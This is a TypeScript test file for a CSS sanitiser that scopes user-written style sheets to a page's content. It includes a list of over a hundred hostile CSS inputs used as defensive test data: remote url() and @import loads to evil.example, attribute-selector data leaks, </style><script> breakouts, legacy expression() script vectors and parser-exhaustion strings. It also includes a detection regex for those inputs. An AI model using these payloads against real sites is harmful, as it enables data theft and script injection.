import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CUSTOM_CSS_SCOPE } from '#shared/rules/customCss.ts';
import { filterCustomCss } from './filterCustomCss.ts';

const OWN = '/media/01234567-89ab-4cde-8f01-23456789abcd/11234567-89ab-4cde-8f01-23456789abcd-640.webp';
const filteredOf = (css: string) => filterCustomCss(css).css.replaceAll(`.${CUSTOM_CSS_SCOPE}`, '.P');

describe('filterCustomCss', () => {
  it.each([
    ['.card { color: RED }', '.P .card{color:red}'],
    ['.a, .b > c { margin: 0 }', '.P .a,.P .b>c{margin:0}'],
    [':scope { gap: 2px } & > .b { gap: 3px }', '.P{gap:2px}.P>.b{gap:3px}'],
    [':scope.dark .a { gap: 1px }', '.P.dark .a{gap:1px}'],
    ['.a:not(.b):has(> img)::before { content: "\\201C" }', '.P .a:not(.b):has(>img):before{content:"“"}'],
    [
      '@media (min-width: 40em) { .a { width: calc(1px + 2em) } }',
      '@media (width>=40em){.P .a{width:calc(1px + 2em)}}',
    ],
    ['@supports (display: grid) { .a { display: grid } }', '@supports (display:grid){.P .a{display:grid}}'],
    [
      '@keyframes spin { to { rotate: 1turn } } .a { animation: spin 1s }',
      '@keyframes page-content-spin{to{rotate:1turn}}.P .a{animation:1s page-content-spin}',
    ],
    [`.a { background: url("${OWN}") }`, `.P .a{background:url(${OWN})}`],
    ['.a { color: var(--accent); --gap: 1px }', '.P .a{color:var(--accent);--gap:1px}'],
    ['.md\\:p, [data-x="1"] { gap: 1px }', '.P .md\\:p,.P [data-x="1"]{gap:1px}'],
    ['/* a } comment */ .a { gap: 1px }', '.P .a{gap:1px}'],
    ['', ''],
  ])('keeps %s inside the content', (css, filtered) => {
    expect(filteredOf(css)).toBe(filtered);
    expect(filterCustomCss(css).dropped).toEqual([]);
  });

  it('reports what it dropped, why and where', () => {
    const { css, dropped } = filterCustomCss(
      '.a { color: red;\n  position: fixed }\n@import "x.css";\nbody { margin: 0 }\n',
    );
    expect(css).toBe(`.${CUSTOM_CSS_SCOPE} .a{color:red}`);
    expect(dropped).toEqual([
      { what: 'position: fixed', why: 'Fixed and sticky positions aren’t allowed.', line: 2 },
      { what: '@import "x.css"', why: 'You can’t import other style sheets.', line: 3 },
      {
        what: 'body',
        why: 'You can only style your page’s content. Use :scope for the content itself.',
        line: 4,
      },
    ]);
  });

  it('refuses CSS over 20 kB, and is fast just below that', () => {
    expect(filterCustomCss('a{}'.repeat(10_000))).toEqual({
      css: '',
      dropped: [{ what: 'Everything', why: 'This CSS is over 20 kB.', line: 1 }],
    });
    expect(filterCustomCss('.a > b:hover { position: fixed }\n'.repeat(600)).dropped).toHaveLength(50);
  });
});

/**
 * Style sheets that load, cover, escape the scope, break out of the element, or exhaust the parser. The result must not
 * contain what makes them dangerous.
 */
const ATTACKS: readonly string[] = [
  // Loads from another origin.
  '.a { background: url(https://evil.example/x) }',
  '.a { background: url("//evil.example/x") }',
  ".a { background: URL('https://evil.example/x') }",
  '.a { background: url( "https://evil.example/x" ) }',
  String.raw`.a { background: \75rl(https://evil.example/x) }`,
  String.raw`.a { background: u\72l(https://evil.example/x) }`,
  String.raw`.a { background: \url(https://evil.example/x) }`,
  String.raw`.a { background: \000075 rl(https://evil.example/x) }`,
  '.a { background: url/**/(https://evil.example/x) }',
  '.a { background: u/**/rl(https://evil.example/x) }',
  '.a { background: url(java\nscript:alert(1)) }',
  '.a { background: url(javascript:alert(1)) }',
  '.a { background: url("data:image/svg+xml,<svg onload=alert(1)>") }',
  '.a { background: url(blob:x) }',
  '.a { background: url(https:evil.example) }',
  String.raw`.a { background: url("\68ttps://evil.example") }`,
  String.raw`.a { background: url("/media/..\2f evil") }`,
  '.a { background: url(/media/../../evil) }',
  `.a { background: url(${OWN}?x=1) }`,
  `.a { background: url(https://evil.example${OWN}) }`,
  `.a { background: url(${OWN}), url(https://evil.example/x) }`,
  '.a { background: image-set("https://evil.example/x" 1x) }',
  '.a { background: -webkit-image-set(url(https://evil.example/x) 1x) }',
  '.a { --u: "https://evil.example/x"; background: image-set(var(--u) 1x) }',
  '.a { --u: url(https://evil.example/x); background: var(--u) }',
  '.a { background: image("https://evil.example/x") }',
  '.a { background: cross-fade(url(https://evil.example/x), red) }',
  '.a { background: src("https://evil.example/x") }',
  '.a { background: element(#secret) }',
  '.a { background: paint(evil) }',
  '.a { background-image: attr(data-x type(<url>)) }',
  '.a { background: -moz-image-rect(url(https://evil.example/x), 0, 0, 1, 1) }',
  '.a { cursor: url(https://evil.example/x), auto }',
  '.a { list-style: url(https://evil.example/x) }',
  '.a::before { content: url(https://evil.example/x) }',
  '.a { filter: url(https://evil.example/x#f) }',
  '.a { mask: url(https://evil.example/x) }',
  '.a { clip-path: url(https://evil.example/x#c) }',
  '.a { border-image: url(https://evil.example/x) 1 }',
  '.a { shape-outside: url(https://evil.example/x) }',
  '.a { offset-path: url(https://evil.example/x) }',
  'input[value^="a"] { background: url(https://evil.example/a) }',
  'input[value^="a"] { --x: url(https://evil.example/a) }',
  '@supports (background: url(https://evil.example/x)) { .a { gap: 1px } }',
  '@keyframes k { to { background: url(https://evil.example/x) } }',
  // Imports and other at-rules that are not allowed.
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css) screen;',
  '@IMPORT "https://evil.example/x.css";',
  String.raw`@\69mport "https://evil.example/x.css";`,
  '@import/**/"https://evil.example/x.css";',
  '@charset "utf-7"; @import "https://evil.example/x.css";',
  '.a { } @import "https://evil.example/x.css";',
  '@layer x; @import "https://evil.example/x.css" layer(x);',
  '@font-face { font-family: x; src: url(https://evil.example/x); unicode-range: U+0041 }',
  '@font-face { font-family: x; src: local("secret") }',
  '@namespace svg url(https://evil.example/x);',
  '@page { margin: 1cm } @property --x { syntax: "*"; inherits: false }',
  '@counter-style evil { system: cyclic; symbols: url(https://evil.example/x) }',
  '@scope (html) { :scope { display: none } }',
  '@layer evil { html { display: none } }',
  '@container (min-width: 1px) { html { display: none } }',
  '@-moz-document url(https://evil.example/) { a { gap: 1px } }',
  '@view-transition { navigation: auto }',
  '@starting-style { html { opacity: 0 } }',
  '@evil { a { gap: 1px } }',
  // Scripts in style sheets of old browsers.
  '.a { width: expression(alert(1)) }',
  String.raw`.a { width: e\78pression(alert(1)) }`,
  '.a { width: exp/**/ression(alert(1)) }',
  '.a { behavior: url(evil.htc) }',
  '.a { -ms-behavior: url(evil.htc) }',
  '.a { -moz-binding: url("https://evil.example/x.xml#x") }',
  // Covers other parts of the page.
  '.a { position: fixed }',
  '.a { POSITION: FIXED !important }',
  '.a { position: sticky }',
  '.a { --p: fixed; position: var(--p) }',
  String.raw`.a { position: \66ixed }`,
  String.raw`.a { p\6fsition: fixed }`,
  '.a { position/**/: /**/fixed }',
  '@media all { @media all { .a { position: fixed } } }',
  '@keyframes k { to { position: fixed } }',
  // Selects elements outside the page's content.
  'html { display: none }',
  'body .a { display: none }',
  ':root { --bg: red }',
  ':is(html, .a) .b { display: none }',
  'html:has(.a) { display: none }',
  ':not(body *) { display: none }',
  ':host { display: none }',
  ':host-context(body) { display: none }',
  '::slotted(a) { display: none }',
  '.a::part(x) { display: none }',
  ':scope ~ footer { display: none }',
  '& + footer { display: none }',
  '.a:has(:scope) { display: none }',
  '.a { body:has(&) { display: none } }',
  '.a { *:not(&) { display: none } }',
  '.x & { display: none }',
  '*|html { display: none }',
  'BODY { display: none }',
  // Ends the scope or the style element early.
  '} html { display: none }',
  '.a { color: red } } html { display: none }',
  '.a { color: red',
  '.a { content: "</style><script>alert(1)</script>" }',
  '.a[title="</style>"] { gap: 1px }',
  '.a { --x: </style><script>alert(1)</script> }',
  '</style><script>alert(1)</script>',
  '<!-- .a { gap: 1px } --> </style>',
  '/* </style> */ .a { gap: 1px }',
  '/* never closed',
  '.a { content: "never closed }\nhtml { display: none }',
  ".a { content: '\\",
  '.a { content: "\\\n</style>" }',
  String.raw`.a\3c\2fstyle\3e { gap: 1px }`,
  String.raw`.\<\/style\> { gap: 1px }`,
  '.a { background: url(x"y) } html { display: none }',
  '.a { background: url(x(y) } html { display: none }',
  '.a { --x: {a:b} ; --y: } html { display: none }',
  '.a { width: (1px } html { display: none } ) }',
  '\0.a { color: red }',
  '.a { content: "\u2028</style>\u2029" }',
  '@media </style> { .a { gap: 1px } }',
  // Exhausts the parser.
  '('.repeat(19_000),
  'a{'.repeat(9000),
  `${':is('.repeat(4000)}a${')'.repeat(4000)}{gap:1px}`,
  `${'@media all{'.repeat(1500)}${'}'.repeat(1500)}`,
  `a{width:${'calc('.repeat(3000)}1px${')'.repeat(3000)}}`,
  `@supports ${'('.repeat(9000)}${')'.repeat(9000)}{}`,
  `@media ${'not ('.repeat(3000)}`,
  `${'& &{'.repeat(30)}gap:1px${'}'.repeat(30)}`,
  `${'a,b{'.repeat(20)}gap:1px${'}'.repeat(20)}`,
  '/*'.repeat(9000),
  '"'.repeat(15_000),
  '\\'.repeat(15_000),
  'url('.repeat(4500),
];

/**
 * Matches what a filtered sheet must not contain. Strings are removed before the search, because their content has no
 * effect.
 */
const OUT = new RegExp(
  [
    String.raw`https?:|\/\/evil|url\((?!\/media\/[\da-f-]{36}\/[\da-f-]{36}-\d+\.webp\))`,
    String.raw`@(?!media|supports|keyframes)|(?<![\w-])position:(?!static|relative|absolute)`,
    String.raw`expression\(|(?<![\w-])behavior:|-moz-binding:|image-set|attr\(|src\(|element\(|paint\(`,
    String.raw`(?<![\w.#-])(?:html|body)(?![\w-])|:root|:host|page-content[+~]|::?slotted|::part\(|\\[\da-f]`,
  ].join('|'),
  'i',
);

/** The problems found in a filtered style sheet. */
function harmIn(source: string): string[] {
  const { css } = filterCustomCss(source);
  const bare = css.replaceAll(/"(?:[^"\\]|\\[^])*"|'(?:[^'\\]|\\[^])*'/g, '""').replaceAll(/\\[^\da-f]/gi, '_');
  const selectors = Array.from(bare.matchAll(/(?:^|[{},])(\.?[^@{},]*)(?=\{)/g), ([, selector = '']) => selector);
  const free = selectors.filter((each) => !/^(?:to|from|[\d.]+%)?$|\.page-content|\)/.test(each.trim()));
  return [
    ...(/<\/|<!--|\0/.exec(css) ?? []),
    ...(OUT.exec(bare) ?? []),
    ...(bare.split('{').length === bare.split('}').length ? [] : ['braces']),
    ...free,
  ];
}

describe('attacks through CSS', () => {
  it('are more than a hundred', () => {
    expect(new Set(ATTACKS).size).toBeGreaterThan(100);
  });

  it.each(ATTACKS)('have no effect: %s', (attack) => {
    expect(harmIn(attack)).toEqual([]);
    expect(harmIn(`.before { gap: 1px }\n${attack}\n.after { gap: 2px }`)).toEqual([]);
    expect(harmIn(`@media all { ${attack} }`)).toEqual([]);
  });

  it('have no effect in random combinations', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS.filter(({ length }) => length < 200)),
      fc.constantFrom(...'{}()[]"\'\\/*;:,<>@&#.~+> \n'.split('')),
      fc.constantFrom(
        'url(',
        'html',
        '</style>',
        '@import ',
        '\\75',
        'position:',
        'fixed',
        ':is(',
        ':not(',
        '/*',
        '*/',
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(harmIn(pieces.join(''))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});
